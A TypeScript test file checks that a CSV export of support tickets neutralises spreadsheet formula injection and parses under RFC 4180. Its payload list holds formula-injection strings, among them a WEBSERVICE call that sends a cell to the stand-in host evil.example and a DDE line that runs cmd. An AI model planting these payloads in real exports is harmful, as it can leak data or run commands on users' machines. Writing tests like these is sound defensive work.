import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvLine, guard, unguard } from '@/lib/continuity/export/csv.ts';
import { CSV_HEAD, inScope, ticketCsv } from '@/lib/continuity/export/tickets.ts';
import { NOW } from '../../support/make.ts';
import { aTicket } from '../../support/ticket.ts';

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const PAYLOADS = [
  '1+1',
  'HYPERLINK("https://evil.example","x")',
  'WEBSERVICE("https://evil.example/"&A1)',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  '"',
  '',
];
const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.constantFrom('', "'", "''", '"', '\n'), fc.constantFrom(...BEGINNINGS), fc.string())
    .map((parts) => parts.join('')),
);

describe('a cell', () => {
  test('never begins a formula, however it begins', () => {
    for (const before of ['', "'", '"', '\n'])
      for (const begin of BEGINNINGS)
        for (const payload of PAYLOADS) {
          const text = `${before}${begin}${payload}`;
          const [[cell = ''] = []] = Papa.parse<string[]>(csvLine([text, 'x']), { newline: '\r\n' }).data;
          expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
          expect(unguard(cell)).toBe(text);
        }
  });

  test('comes back as it was: taking off takes exactly what was put before', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(unguard(guard(text))).toBe(text);
        expect(guard(text).length - text.length).toBeLessThanOrEqual(1);
      }),
      { numRuns: 500 },
    );
  });

  test('and a line of them is read as RFC 4180 has it', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 2, maxLength: 6 }), (cells) => {
        const { data } = Papa.parse<string[]>(csvLine(cells), { newline: '\r\n', delimiter: ',' });
        expect(data[0]?.map(unguard)).toEqual(cells);
      }),
      { numRuns: 500 },
    );
  });
});

describe('tickets as lines', () => {
  test('have as many cells as there are columns', () => {
    const ticket = aTicket(
      'amazon:na:message:1',
      { buyer: '=cmd', subject: 'a, "b"\nc', amount: { minor: 1_999, currency: 'EUR' } },
      { tags: ['a', 'b'] },
    );
    const [head = [], line = []] = Papa.parse<string[]>((CSV_HEAD + ticketCsv(ticket)).slice(1)).data;
    expect(line).toHaveLength(head.length);
    const cell = (name: string) => line[head.indexOf(name)];
    expect(cell('buyer')).toBe("'=cmd");
    expect(cell('subject')).toBe('a, "b"\nc');
    expect(cell('amount')).toBe('19.99');
    expect(cell('tags')).toBe('a; b');
    expect(cell('act_by')).toBe('');
  });

  test('are chosen by portal and by the newest message', () => {
    const ticket = aTicket('amazon:na:message:1', { last: { direction: 'inbound', text: 'x', at: NOW } }, {});
    expect(inScope(ticket, {})).toBe(true);
    expect(inScope(ticket, { from: NOW, to: NOW + 1, portal: 'amazon' })).toBe(true);
    expect(inScope(ticket, { to: NOW })).toBe(false);
    expect(inScope(ticket, { from: NOW + 1 })).toBe(false);
    expect(inScope(ticket, { portal: 'tiktok' })).toBe(false);
  });
});
